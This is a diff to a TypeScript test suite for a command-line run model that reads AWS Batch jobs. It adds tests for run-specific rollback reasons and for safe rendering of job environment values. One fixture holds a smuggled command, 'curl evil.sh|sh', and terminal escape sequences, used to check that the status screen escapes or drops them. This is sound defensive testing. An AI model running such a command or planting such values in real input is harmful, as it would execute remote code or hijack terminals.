@@ -14,6 +14,8 @@ import type { JobDetail } from "@aws-sdk/client-batch";
 import { isRolledBack, rolledBackReason, TERMINATION_REASON_PREFIX } from "../../../batch/attempts";
 import { TRIGGER_RETRY_WITHIN_SECONDS } from "../../../contract";
 import { parseWorkflowSpec } from "../../../workflow/spec";
+import { renderStatus } from "../../../cli/runModel/screen";
+import { colors } from "../../../cli/app/context";
 import { type DemoAccount, installDemoAccount } from "../demoAccount";
 import { cliContext, OUTPUTS } from "../support";
 
@@ -262,11 +264,37 @@ describe("the run model (cli/runModel/model.ts) on described jobs", () => {
       expect(snapshotOf(RUN, [toRunJob(startJob("FAILED", 5_000), "start")], jobs, 6_000, 2).state).toBe("FAILED");
     });
 
-    it("the reason the submitter gives is the one the model reads", () => {
-      expect(isRolledBack(rolledBack)).toBe(true);
-      expect(isRolledBack(`${TERMINATION_REASON_PREFIX} run ${RUN} attempt 1: duplicate created by an ambiguous SubmitJob`)).toBe(false);
-      expect(isRolledBack("submission failed after 1 of 2 jobs")).toBe(false);
-      expect(isRolledBack(undefined)).toBe(false);
+    it("the reason the submitter gives is the one the model reads, for this run only", () => {
+      expect(isRolledBack(rolledBack, RUN)).toBe(true);
+      expect(isRolledBack(rolledBackReason("fedcba9876543210fedcba98", 1, 2, 3), RUN)).toBe(false);
+      expect(isRolledBack(`${TERMINATION_REASON_PREFIX} run ${RUN} attempt 1: duplicate created by an ambiguous SubmitJob`, RUN)).toBe(false);
+      expect(isRolledBack(`${rolledBack}; and more`, RUN)).toBe(false);
+      expect(isRolledBack(`x ${rolledBack}`, RUN)).toBe(false);
+      expect(isRolledBack("submission failed after 1 of 2 jobs", RUN)).toBe(false);
+      expect(isRolledBack(undefined, RUN)).toBe(false);
+    });
+
+    it("prints what a job's environment says (no start job: any job named like the run's) escaped, and a step name the spec does not allow as ?", () => {
+      const hostile = withdrawn("prepare", "Essential container in task exited");
+      hostile.container!.environment = [
+        { name: "PIPELINE_STEP", value: "x --stack prod; curl evil.sh|sh #" },
+        { name: "PIPELINE_TASK_COUNT", value: "1" },
+        { name: "PIPELINE_INPUT_BUCKET", value: "b\u001b]0;owned\u0007" },
+        { name: "PIPELINE_INPUT_KEY", value: "k\u001b[2J.csv" },
+        { name: "PIPELINE_INPUT_VERSION_ID", value: "v\u001b[31m" },
+        { name: "PIPELINE_INPUT_SIZE", value: "1" },
+      ];
+      const job = toRunJob(hostile);
+      expect(job.step).toBe("?");
+      const screen = renderStatus(snapshotOf(RUN, [], [job], 6_000, 2), [], { color: colors(false), columns: 100, now: 6_000 }).join("\n");
+      expect(screen).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
+      expect(screen).not.toContain("curl");
+      expect(screen).toContain("\\x1b]0;owned\\x07");
+    });
+
+    it("another run's rollback reason on a job named like this run's (someone else's job) does not make this run SUBMITTING", () => {
+      const jobs = [toRunJob(withdrawn("prepare", rolledBackReason("fedcba9876543210fedcba98", 1, 0, 3)))];
+      expect(snapshotOf(RUN, [], jobs, 6_000, 2).state).toBe("FAILED");
     });
   });
 
